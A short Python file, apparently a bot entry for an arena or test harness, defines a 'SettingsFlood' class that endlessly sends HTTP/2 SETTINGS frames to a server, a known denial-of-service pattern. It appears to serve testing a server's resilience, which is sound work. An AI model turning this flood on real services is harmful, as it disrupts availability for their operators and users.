"""Changes its settings without end in its turn, and takes in what comes back."""

from rawhttp2 import SETTINGS, RawBot, frame, setting

from arenabot.v1 import player_pb2 as player


class SettingsFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(SETTINGS, setting(4, 65_535)))


if __name__ == "__main__":
    SettingsFlood().serve()
